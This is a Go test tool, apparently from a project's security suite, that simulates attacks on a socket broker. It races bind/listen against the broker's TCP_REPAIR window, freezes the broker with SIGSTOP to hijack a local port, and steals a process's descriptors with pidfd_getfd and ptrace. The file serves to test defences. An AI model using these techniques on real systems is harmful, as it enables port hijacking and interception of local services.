// Command repairattack plays the parts of the broker's repair-window
// attack tests: a victim service, its client, and an attacker who tries
// to take the victim's port with a socket in repair mode.
//
//	repairattack serve PORT            listen on 0.0.0.0:PORT, answer "victim"
//	repairattack count ADDR DURATION   dial ADDR again and again for DURATION (at least 10 dials)
//	repairattack setcap BIN PORT TRIES run BIN broker (a setcap copy), stop it in the window
//	repairattack race SOCK PORT MIN    race bind()+listen() against the broker at SOCK
//	repairattack getfd PID             take PID's descriptors (pidfd_getfd) and trace it
//
// serve answers every connection with "victim\n". count prints
// "victim=V other=O lost=L". setcap prints "hijacked after N tries" when
// it holds a socket listening on 127.0.0.1:PORT, else "held: ..." with
// what stopped it. race prints "tries=T ok=K binds=B listens=L". getfd
// prints "taken=N sockets=S traced=BOOL".
package main

import (
	"bufio"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/seqknock/seqknock/client/broker"
	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 3 {
		fmt.Fprintln(os.Stderr, "usage: repairattack serve|count|setcap|race ...")
		os.Exit(2)
	}
	switch os.Args[1] {
	case "serve":
		serve(os.Args[2], "victim\n")
	case "count":
		d, _ := time.ParseDuration(os.Args[3])
		count(os.Args[2], d)
	case "setcap":
		tries, _ := strconv.Atoi(os.Args[4])
		setcap(os.Args[2], atoi(os.Args[3]), tries)
	case "getfd":
		getfd(atoi(os.Args[2]))
	case "race":
		d, _ := time.ParseDuration(os.Args[4])
		race(os.Args[2], atoi(os.Args[3]), d)
	default:
		os.Exit(2)
	}
}

func atoi(s string) int {
	n, err := strconv.Atoi(s)
	if err != nil {
		fmt.Println(err)
		os.Exit(2)
	}
	return n
}

func serve(port, answer string) {
	ln, err := net.Listen("tcp4", "0.0.0.0:"+port)
	if err != nil {
		fmt.Println(err)
		os.Exit(1)
	}
	fmt.Println("serving")
	for {
		c, err := ln.Accept()
		if err != nil {
			continue
		}
		c.Write([]byte(answer))
		c.Close()
	}
}

func count(addr string, d time.Duration) {
	var victim, other, lost int
	for end := time.Now().Add(d); victim+other+lost < 10 || time.Now().Before(end); {
		c, err := net.DialTimeout("tcp4", addr, 2*time.Second)
		if err != nil {
			lost++
			time.Sleep(time.Millisecond)
			continue
		}
		c.SetReadDeadline(time.Now().Add(2 * time.Second))
		line, _ := bufio.NewReader(c).ReadString('\n')
		c.Close()
		switch line {
		case "victim\n":
			victim++
		case "":
			lost++
		default:
			other++
		}
		time.Sleep(time.Millisecond)
	}
	fmt.Printf("victim=%d other=%d lost=%d\n", victim, other, lost)
}

// repairOn says whether fd is in repair mode.
func repairOn(fd int) bool {
	v, err := unix.GetsockoptInt(fd, unix.SOL_TCP, unix.TCP_REPAIR)
	return err == nil && v == 1
}

// grab spins bind(127.0.0.1:port) on fd until it lands or stop is set,
// then listens; it reports whether the bind landed and the listen.
func grab(fd, port int, stop *atomic.Bool, landed func()) (bound, listening bool) {
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	sa := &unix.SockaddrInet4{Port: port, Addr: [4]byte{127, 0, 0, 1}}
	for !stop.Load() {
		if unix.Bind(fd, sa) == nil {
			if landed != nil {
				landed()
			}
			return true, unix.Listen(fd, 128) == nil
		}
	}
	return false, false
}

// setcap starts the setcap copy bin as this user's own broker and tries
// to take 127.0.0.1:port through a socket in its repair window: the bind
// that lands stops the broker (SIGSTOP) before it can turn repair mode
// off, listens, and kills it.
func setcap(bin string, port, tries int) {
	home, _ := os.UserHomeDir()
	sock := filepath.Join(home, "own-broker.sock")
	own := exec.Command(bin, "broker", "--listen", sock, "--group", strconv.Itoa(os.Getgid()))
	var stderr strings.Builder
	own.Stderr = &stderr
	if err := own.Start(); err != nil {
		fmt.Println("held: start:", err)
		return
	}
	exited := make(chan struct{})
	go func() { own.Wait(); close(exited) }()
	defer func() { own.Process.Kill(); <-exited }()
	for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(20 * time.Millisecond) {
		select {
		case <-exited:
			fmt.Printf("held: the broker did not run: %s", stderr.String())
			return
		default:
		}
		if _, err := os.Stat(sock); err == nil {
			break
		}
		if time.Now().After(deadline) {
			fmt.Println("held: no broker socket")
			return
		}
	}
	bc := &broker.Client{Path: sock}
	pid := own.Process.Pid
	for i := 1; i <= tries; i++ {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
		if err != nil {
			fmt.Println("held: socket:", err)
			return
		}
		var stop atomic.Bool
		type result struct{ bound, listening bool }
		got := make(chan result, 1)
		go func() {
			b, l := grab(fd, port, &stop, func() { syscall.Kill(pid, syscall.SIGSTOP) })
			got <- result{b, l}
		}()
		done := make(chan struct{})
		go func() { bc.SetISNFrom(fd, 1, 0); close(done) }()
		var r result
		select {
		case <-done:
			stop.Store(true)
			r = <-got
		case r = <-got:
			stop.Store(true)
		}
		if r.bound && r.listening && repairOn(fd) {
			syscall.Kill(pid, syscall.SIGKILL)
			fmt.Printf("hijacked after %d tries\n", i)
			for {
				nfd, _, err := unix.Accept(fd)
				if err == nil {
					unix.Write(nfd, []byte("attacker\n"))
					unix.Close(nfd)
				}
			}
		}
		if r.bound {
			syscall.Kill(pid, syscall.SIGCONT)
		}
		<-done
		unix.Close(fd)
	}
	fmt.Printf("held: %d tries\n", tries)
}

// race races bind(127.0.0.1:port)+listen() against the broker at sock
// for at least min, until at least 10,000 requests were answered "ok"
// (or 6 times min passed).
func race(sock string, port int, min time.Duration) {
	bc := &broker.Client{Path: sock}
	var tries, ok, binds, listens int
	start := time.Now()
	for {
		el := time.Since(start)
		if el >= min && ok >= 10000 || el >= 6*min {
			break
		}
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
		if err != nil {
			fmt.Println("socket:", err)
			os.Exit(1)
		}
		var stop atomic.Bool
		got := make(chan [2]bool, 1)
		go func() {
			b, l := grab(fd, port, &stop, nil)
			got <- [2]bool{b, l}
		}()
		err = bc.SetISNFrom(fd, uint32(tries+1), 0)
		stop.Store(true)
		r := <-got
		tries++
		if err == nil {
			ok++
		}
		if r[0] {
			binds++
		}
		if r[1] {
			listens++
		}
		unix.Close(fd)
	}
	fmt.Printf("tries=%d ok=%d binds=%d listens=%d seconds=%.1f\n", tries, ok, binds, listens, time.Since(start).Seconds())
}

// getfd tries to take each of pid's first 64 descriptors with
// pidfd_getfd, and to attach to it with PTRACE_SEIZE.
func getfd(pid int) {
	pidfd, err := unix.PidfdOpen(pid, 0)
	if err != nil {
		fmt.Println("pidfd_open:", err)
		os.Exit(1)
	}
	taken, sockets := 0, 0
	for fd := range 64 {
		nfd, err := unix.PidfdGetfd(pidfd, fd, 0)
		if err != nil {
			continue
		}
		taken++
		if _, err := unix.GetsockoptInt(nfd, unix.SOL_SOCKET, unix.SO_TYPE); err == nil {
			sockets++
		}
		unix.Close(nfd)
	}
	_, _, e := unix.Syscall6(unix.SYS_PTRACE, unix.PTRACE_SEIZE, uintptr(pid), 0, 0, 0, 0)
	traced := e == 0
	if traced {
		unix.Syscall6(unix.SYS_PTRACE, unix.PTRACE_DETACH, uintptr(pid), 0, 0, 0, 0)
	}
	fmt.Printf("taken=%d sockets=%d traced=%v\n", taken, sockets, traced)
}
